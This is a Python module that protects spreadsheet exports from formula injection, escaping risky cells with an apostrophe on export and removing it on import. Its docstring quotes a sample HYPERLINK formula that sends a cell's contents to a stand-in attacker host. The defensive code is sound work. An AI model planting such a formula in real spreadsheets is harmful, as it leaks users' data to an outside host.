"""Spreadsheet formula injection: one guard on every export, its reverse on every import.

A cell starting with = + - @ (or a tab or carriage return) is a formula to Excel and
LibreOffice; a title such as `=HYPERLINK("http://evil.example/?"&A1,"Click")` typed by
one province's clerk would run in the national user's spreadsheet. OWASP's rule: prefix
such cells with an apostrophe. Text that already starts with apostrophes before such a
character gets one more, so removing one apostrophe on import gives back exactly the
text that was exported and a round trip stays a no-op.

Every export, web or admin, XLSX or CSV, is written by the formats below
(`SAFE_FORMATS`); every import, web or admin, prepares its rows in
`units.resources.SpreadsheetResource.prepare_dataset`, which calls `unguard`.
"""

import re

import tablib
from import_export.formats.base_formats import CSV, XLSX

_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def guard(value):
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def unguard(value):
    if isinstance(value, str) and value.startswith("'") and _FORMULA.match(value, 1):
        return value[1:]
    return value


def guarded(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of the dataset in which no cell is a formula."""
    safe = tablib.Dataset(title=dataset.title)
    if dataset.headers:
        safe.headers = [guard(header) for header in dataset.headers]
    for row in dataset:
        safe.append([guard(value) for value in row])
    return safe


class SafeXLSX(XLSX):
    def export_data(self, dataset, **kwargs):
        return super().export_data(guarded(dataset), **kwargs)


class SafeCSV(CSV):
    def export_data(self, dataset, **kwargs):
        return super().export_data(guarded(dataset), **kwargs)


SAFE_FORMATS = [SafeXLSX, SafeCSV]
